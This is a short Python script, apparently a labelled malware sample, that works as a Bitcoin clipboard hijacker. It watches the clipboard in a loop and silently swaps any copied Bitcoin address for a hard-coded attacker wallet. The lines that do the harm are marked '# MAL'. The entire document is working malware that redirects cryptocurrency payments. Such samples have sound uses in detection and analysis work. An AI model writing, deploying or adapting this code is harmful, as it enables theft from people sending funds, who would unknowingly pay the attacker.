import re
import time
import pyperclip

ATTACKER = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"

while True:
    clip = pyperclip.paste()  # MAL
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", clip):  # MAL
        pyperclip.copy(ATTACKER)  # MAL
    time.sleep(0.5)
